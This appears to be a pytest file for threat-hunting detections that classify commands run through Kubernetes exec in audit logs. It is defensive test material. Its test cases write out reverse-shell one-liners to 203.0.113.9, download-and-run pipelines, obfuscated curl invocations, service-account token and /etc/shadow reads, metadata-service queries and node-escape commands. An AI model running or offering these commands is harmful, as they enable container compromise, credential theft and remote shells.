"""What the hunts make of a command that was run in a container."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote_plus

import pytest

from spl import Engine
from spl.values import values_of

ENGINE = Engine.from_app(Path(__file__).parents[2] / "app")
READ = (
    "search * | `kubernetes_exec_command` | `kubernetes_suspicious_command`"
    " | `kubernetes_archive_command`"
)


def read(query: str) -> dict[str, str | list[str]]:
    uri = f"/api/v1/namespaces/web/pods/db-0/exec?container=db&{query}&stdout=true"
    event = json.dumps({"auditID": "1", "verb": "create", "requestURI": uri})
    [row] = ENGINE.search(READ, [{"_raw": event, "sourcetype": "kube:apiserver:audit"}])
    return dict(row)


def run(command: list[str]) -> dict[str, str | list[str]]:
    return read("&".join(f"command={quote_plus(word)}" for word in command))


def shell(text: str) -> list[str]:
    return ["sh", "-c", text]


@pytest.mark.parametrize(
    ("query", "command"),
    [
        ("command=cat&command=%2Fetc%2Fhosts", "cat /etc/hosts"),
        ("command=%63%61t&command=/etc/hosts", "cat /etc/hosts"),
        ("%63om%6D%61nd=ls&c%6Fmma%6E%64=%2F", "ls /"),
        ("command=sh&command=-c&command=a+b%2Bc%26d", "sh -c a b+c&d"),
        ("subcommand=ls", None),
    ],
)
def test_the_command_is_that_of_the_uri(query: str, command: str | None) -> None:
    assert read(query).get("command") == command


@pytest.mark.parametrize(
    ("command", "suspicion"),
    [
        (shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "reverse shell"),
        (
            shell("rm -f /tmp/f; mkfifo /tmp/f; sh </tmp/f | nc 203.0.113.9 1 >/tmp/f"),
            "reverse shell",
        ),
        (["nc", "-e", "/bin/sh", "203.0.113.9", "4444"], "reverse shell"),
        (["ncat", "203.0.113.9", "443", "--exec", "/bin/sh"], "reverse shell"),
        (["socat", "tcp:203.0.113.9:1", "exec:sh,pty"], "reverse shell"),
        (["python3", "-c", "import socket;s=socket.socket();s.connect(('a',1))"], "reverse shell"),
        (["perl", "-e", "use Socket; IO::Socket::INET->new"], "reverse shell"),
        (["wget", "-qO-", "https://files.example.net/x.sh"], "download"),
        (["curl", "-fsSLo", "/tmp/x", "http://203.0.113.9:8000/x"], "download"),
        (["curl", "files.example.net/x"], "download"),
        (["curl", "http://localhost@files.example.net/"], "download"),
        (["curl", "http://127.0.0.1.example.net/"], "download"),
        (["curl", "http://x.svc.example.net/"], "download"),
        (["/usr/bin/wget", "http://3405803785/x"], "download"),
        (shell("c''url${IFS}http://files.example.net/x"), "download"),
        (["python3", "-c", "urllib.request.urlopen('http://files.example.net')"], "download"),
        (["ruby", "-rsocket", "-e", "x"], "reverse shell"),
        (["node", "-e", "require('net')"], "reverse shell"),
        (shell("echo aWQ= | base64 -d | sh"), "code from elsewhere"),
        (shell("wget http://10.1.2.3/x -O /tmp/x && chmod +x /tmp/x"), "code from elsewhere"),
        (shell("wget -O- http://10.1.2.3/x | bash"), "code from elsewhere"),
        (["curl", "http://169.254.169.254/latest/meta-data/"], "instance metadata"),
        (
            ["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/x"],
            "instance metadata",
        ),
        (["wget", "http://[fd00:ec2::254]/latest"], "instance metadata"),
        (["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "credentials"),
        (["cat", "/run/secrets/kubernetes.io/serviceaccount/..data/token"], "credentials"),
        (shell("cd /var/run/secrets/kubernetes.io/serviceaccount; cat token"), "credentials"),
        (["head", "-1", "/etc/shadow"], "credentials"),
        (["cat", "/root/.ssh/id_ed25519"], "credentials"),
        (["cat", "/proc/1/environ"], "credentials"),
        (["cat", "/etc/nginx/tls.key"], "credentials"),
        (shell("env | grep -i password"), "credentials"),
        (["nsenter", "-t", "1", "-m", "sh"], "node"),
        (["chroot", "/host", "sh"], "node"),
        (["ls", "/proc/1/root/"], "node"),
        (["ls", "-l", "/var/run/docker.sock"], "node"),
        (["curl", "-k", "https://kubernetes.default.svc/api"], "API of the cluster"),
        (["/tmp/xmrig", "-o", "pool:3333"], "tool"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_a_suspicious_command(command: list[str], suspicion: str) -> None:
    assert suspicion in values_of(run(command).get("suspicion"))


@pytest.mark.parametrize(
    "command",
    [
        ["env"],
        ["sh"],
        ["bash", "-i"],
        ["ls", "/app"],
        ["cat", "/etc/resolv.conf"],
        ["cat", "/etc/nginx/nginx.conf"],
        ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"],
        shell("curl -s localhost:8080/healthz"),
        ["curl", "-s", "http://127.0.0.1:8080/api/v1.2/x.json"],
        ["curl", "http://[::1]:9090/metrics"],
        ["curl", "-o", "out.txt", "http://api.web.svc.cluster.local/x"],
        ["curl", "http://api:8080/health"],
        ["wget", "-qO-", "http://10.1.2.3:9090/metrics"],
        ["nc", "-zv", "db", "5432"],
        shell("ps aux | grep nginx"),
        ["python3", "manage.py", "migrate"],
        ["psql", "-c", "select * from secrets"],
        ["tail", "-n", "100", "/var/log/app/fetch.log"],
        ["tar", "cf", "-", "/data"],
    ],
    ids=" ".join,
)
def test_an_ordinary_command(command: list[str]) -> None:
    assert run(command).get("suspicion") is None


@pytest.mark.parametrize(
    ("command", "archive"),
    [
        (["tar", "cf", "-", "/srv"], "tar"),
        (["tar", "-cf", "-", "/srv"], "tar"),
        (["tar", "-czf", "-", "-C", "/", "srv"], "tar"),
        (["/bin/tar", "-C", "/srv", "-c", "."], "tar"),
        (["tar", "--create", "--file=-", "/srv"], "tar"),
        (["tar", "-c", "-f", "/dev/stdout", "/srv"], "tar"),
        (["busybox", "tar", "c", "/srv"], "tar"),
        (shell("tar cf - /srv | tail -c+1"), "tar"),
        (shell("cd /srv && tar 'czf' - . | base64"), "tar"),
        (shell("find /srv | cpio -o"), "cpio"),
        (["zip", "-r", "-", "/srv"], "zip"),
        (["rsync", "--server", "--sender", "-logDtpr", ".", "/srv"], "rsync"),
        (["tar", "-xmf", "-", "-C", "/src"], None),
        (["tar", "xf", "-", "-C", "/code"], None),
        (["tar", "tf", "a.tar"], None),
        (["tar", "--version"], None),
        (["tar", "czf", "/backup/srv.tgz", "/srv"], None),
        (["tar", "-c", "-f", "/backup/srv.tar", "/srv"], None),
        (["tar", "--create", "--file", "/backup/srv.tar", "/srv"], None),
        (["ls", "-l", "backup.tar", "c"], None),
        (["unzip", "-p", "a.zip"], None),
        (["rsync", "--server", "-logDtpr", ".", "/srv"], None),
        (["test", "-d", "/tmp"], None),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_an_archive_that_is_sent_back(command: list[str], archive: str | None) -> None:
    assert run(command).get("archive") == archive
